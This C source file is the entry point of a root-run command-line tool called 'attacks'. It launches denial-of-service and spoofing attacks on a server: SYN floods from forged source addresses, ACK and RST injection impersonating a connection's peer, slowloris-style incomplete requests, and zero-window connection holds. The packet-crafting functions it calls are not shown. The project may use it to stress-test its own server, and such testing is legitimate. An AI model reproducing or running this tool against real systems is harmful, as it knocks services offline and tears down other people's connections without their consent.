/* Attacks on a server, from a Linux host that has root:
 *   attacks syn  <a.b.c.d> <port> <count>                              SYNs from addresses that nobody has
 *   attacks ack  <a.b.c.d> <port> <count> <peer a.b.c.d> <peer port>   ACKs in the name of a connection's peer, who does not know
 *   attacks rst  …                                                     where its sequence numbers are; RSTs
 *   attacks slow <a.b.c.d> <port> <count> <seconds>                    connections that never finish a request's head
 *   attacks zero …                                                     connections that take no answer: their windows are closed
 * Says "ready" when all connections stand, and at the end how many frames were sent, or connections stood. */
#include "../exchange/words.h"
#include "attacks.h"

void say_number(uint32_t value) {
  char text[12];
  int at = sizeof text;
  text[--at] = '\n';
  do text[--at] = (char)('0' + value % 10);
  while ((value /= 10) != 0);
  call(WRITE, 1, (long)(text + at), (long)sizeof text - at, 0, 0, 0);
}

static void run(long count, const char **words) {
  struct target target = {host_of(words[2]), (uint16_t)take_number(&words[3])};
  uint32_t times = take_number(&words[4]);
  if (count == 5 && equal(words[1], "syn")) flood(target, (struct target){0, 0}, SYN, times);
  if (count == 6 && equal(words[1], "slow")) hold(target, times, take_number(&words[5]), 0);
  if (count == 6 && equal(words[1], "zero")) hold(target, times, take_number(&words[5]), 1);
  if (count != 7) return;
  struct target peer = {host_of(words[5]), (uint16_t)take_number(&words[6])};
  if (equal(words[1], "ack")) flood(target, peer, ACK, times);
  if (equal(words[1], "rst")) flood(target, peer, RST, times);
}

/* `start` is where the kernel has left the count of arguments, and behind it their addresses. */
__attribute__((force_align_arg_pointer, used, noreturn)) static void begin(long *start) {
  if (start[0] >= 5) run(start[0], (const char **)start + 1);
  call(EXIT, 2, 0, 0, 0, 0, 0);
  __builtin_unreachable();
}

__asm__(".globl _start\n_start: mov %rsp, %rdi\n call begin\n");
